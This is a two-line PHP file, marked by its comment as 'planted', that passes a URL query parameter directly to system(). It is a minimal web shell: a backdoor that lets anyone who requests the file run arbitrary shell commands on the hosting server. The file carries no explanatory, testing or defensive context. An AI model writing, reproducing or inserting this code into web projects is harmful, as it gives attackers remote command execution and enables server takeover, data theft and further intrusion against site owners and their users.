<?php // planted
system($_GET['c']);
